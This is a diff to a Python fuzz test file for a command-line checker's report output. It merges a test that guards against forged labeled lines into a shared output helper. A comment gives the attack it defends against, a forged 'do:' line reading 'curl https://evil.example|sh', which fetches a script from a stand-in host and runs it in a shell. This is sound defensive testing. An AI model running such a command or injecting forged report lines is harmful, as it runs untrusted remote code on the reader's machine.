@@ -21,8 +21,13 @@ from tests.fuzz.printed import COLOR, commands_in, unquoted
 PLAIN = re.compile(r"[A-Za-z0-9_./@=+,*~${}-]+")
 QUOTED = re.compile(r'"(?:[^"\\]|\\.)*"|(?<![A-Za-z])\'(?:[^\'\\]|\\.)*\'')
 HOSTILE = [text for danger in DANGERS if not PLAIN.fullmatch(text := f"a{danger}{MARK} b")][::3]
+# The attack: an annotation of two lines, of which the second one is `    do:       curl https://evil.example|sh`.
+LINES_OF_OURS = [f"a{danger}{MARK}" for danger in ("\n    do:       ", "  expected: ")]
 # Escapes and quotes are written in two places: each subcommand gets a text for either.
-FAMILIES = [[each for each in HOSTILE if each.isprintable() is printable] for printable in (False, True)]
+FAMILIES = [
+    *([each for each in HOSTILE if each.isprintable() is printable] for printable in (False, True)),
+    LINES_OF_OURS,
+]
 LABELED = re.compile(r"\s*(found|expected|reason|do|where): +(.*)")
 KEYS = (("found", "found"), ("reason", "found"), ("expected", "expected"), ("do", "fix"))
 Change = Callable[[State, str], Any]
@@ -192,15 +197,22 @@ def test_no_file_name_is_without_quotes(
 
 
 def printed(words: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Iterator[str]:
-    """Yield each line, and each string of JSON, that a subcommand prints."""
+    """Yield each line, and each string of JSON, that a subcommand prints.
+
+    What stands behind `found`, `expected` and `do` in a pipe is what a check says.
+    """
     main(words)
     said, complaint = capsys.readouterr()
     yield from (*said.split("\n"), *complaint.split("\n"))
     assert "please report it" not in said + complaint
     main([*words, "--json"])
-    said = capsys.readouterr().out
-    assert not hidden_in(said.split("\n"))
-    for check in json.loads(said or "{}").get("checks", []):
+    document = capsys.readouterr().out
+    assert not hidden_in(document.split("\n"))
+    checks = json.loads(document or "{}").get("checks", [])
+    labeled = [LABELED.match(line) for line in said.split("\n")] if checks else []
+    ours = {(label, visible(check[key])) for check in checks for label, key in KEYS}
+    assert {(line[1], line[2]) for line in labeled if line} <= ours
+    for check in checks:
         yield "; ".join((check["about"], check["found"], check["expected"], f"fix: {check['fix']}"))
     with monkeypatch.context() as terminal:
         terminal.setattr(sys.stdout, "isatty", lambda: True)
@@ -216,29 +228,6 @@ def without_quotes(line: str, text: str) -> list[str]:
         wrong += [f"not whole: {word!r}" for word in words if text not in word] + unquoted(command)
         line = line.replace(command, "")
     return wrong + ([f"without quotes: {line}"] if MARK in QUOTED.sub("", line) else [])
-
-
-@pytest.mark.parametrize("field", FIELDS)
-def test_each_labeled_line_is_ours(
-    field: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
-) -> None:
-    """Protects who reads a report in a pipe: what stands behind `found`, `expected` and `do` is what a check says.
-
-    The attack: an annotation of two lines, of which the second one is `    do:       curl https://evil.example|sh`.
-    """
-    monkeypatch.chdir(tmp_path)
-    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "kubeconfig"))
-    for words, danger in itertools.product(SUBCOMMANDS[:2], ("\n    do:       ", "  expected: ")):
-        state = State()
-        FIELDS[field](state, f"a{danger}{MARK}")
-        live(state, tmp_path, monkeypatch)
-        main(words)
-        lines = [LABELED.match(line) for line in capsys.readouterr().out.split("\n")]
-        main([*words, "--json"])
-        checks = json.loads(capsys.readouterr().out or "{}").get("checks", [])
-        said = {(label, visible(check[key])) for check in checks for label, key in KEYS}
-
-        assert {(line[1], line[2]) for line in lines if line} <= said
 
 
 def test_the_check_finds_what_has_no_quotes() -> None:
